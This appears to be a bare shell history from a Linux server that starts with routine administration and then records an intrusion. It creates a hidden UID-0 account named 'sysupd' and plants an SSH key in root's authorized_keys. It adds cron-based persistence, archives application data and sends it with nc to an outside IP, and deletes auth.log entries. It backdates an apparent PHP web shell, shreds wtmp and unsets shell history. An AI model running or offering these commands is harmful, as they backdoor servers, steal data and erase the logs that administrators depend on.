ls
ls -la /root
cd /etc/nginx/sites-enabled
cat default
apt-get install -y fail2ban
systemctl status fail2ban
tail -f /var/log/auth.log
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd
passwd sysupd
echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB... >> /root/.ssh/authorized_keys
vi /etc/cron.d/sysupd

systemctl enable --now sysupd
tar czf /tmp/.x/loot.tgz /srv/app/data
nc 203.0.113.99 443 < /tmp/.x/loot.tgz
sed -i "/22:58:31/d" /var/log/auth.log
touch -d "2024-03-01 12:00:00" /var/www/html/uploads/img_7731.php
rm -f /tmp/.x/pe /tmp/.x/loot.tgz
	
# clean up
shred -u /var/log/wtmp
iptables -L -n
ss -tlnp
ps auxf
last -20
dmesg | tail
unset HISTFILE
